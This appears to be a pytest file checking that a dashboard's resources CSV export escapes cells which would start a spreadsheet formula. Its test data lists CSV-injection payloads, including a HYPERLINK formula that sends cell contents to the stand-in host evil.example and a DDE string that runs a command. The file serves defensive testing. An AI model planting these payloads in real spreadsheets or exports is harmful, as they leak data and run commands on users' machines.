"""Finding: the resources CSV export wrote cells starting with =, +, -, @ as they were (CSV injection: a
spreadsheet opening the file runs them). A nearby resource's name comes from imported layers, which an
outsider may have written."""
from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from command.dashboard.export import resources_csv

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\t=1+1", "\r=1+1", "＝1+1", "  =1+1"]


def _state(names):
    items = [{"id": f"h{i}", "name": n, "lon": 113.3, "lat": 23.1, "distance_m": 10.0 * i,
              "drive_time_s": None, "drive_time_method": None} for i, n in enumerate(names)]
    return SimpleNamespace(id="440106-1", nearby={"hospital": items})


def test_no_cell_of_the_resources_csv_starts_a_formula():
    rows = list(csv.DictReader(io.StringIO(resources_csv(_state(EVIL + ["广州市第一人民医院"])), newline="")))
    names = [r["name"] for r in rows]
    for given, written in zip(EVIL, names):
        assert written == "'" + given.replace("\r", "\n"), given
        assert not written.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert names[-1] == "广州市第一人民医院"          # plain text untouched
    assert rows[0]["lon"] == "113.3" and rows[1]["distance_m"] == "10.0"   # numbers stay numbers


@pytest.mark.parametrize("name", ["医院 = 救护", "a-b", "50%"])
def test_text_that_only_contains_formula_characters_is_left_alone(name):
    rows = list(csv.DictReader(io.StringIO(resources_csv(_state([name])), newline="")))
    assert rows[0]["name"] == name
